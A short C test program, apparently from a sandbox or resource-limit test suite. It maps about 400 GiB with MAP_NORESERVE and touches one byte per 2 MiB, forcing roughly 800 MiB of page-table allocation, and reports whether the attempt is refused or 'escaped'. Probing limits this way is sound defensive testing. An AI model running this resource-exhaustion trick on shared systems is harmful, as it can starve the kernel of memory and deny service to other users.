#include "attack.h"

int main(void)
{
        size_t step = 2 << 20, count = 200000;
        char *block = mmap(NULL, step * count, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

        dprintf(1, "TRYING\n");
        if (block == MAP_FAILED) {
                dprintf(1, "REFUSED mmap %s\n", strerrorname_np(errno));
                return 1;
        }
        for (size_t i = 0; i < count; i++)
                (void)*(volatile char *)(block + i * step);
        dprintf(1, "ESCAPED 800 MiB of page tables\n");
        return 0;
}
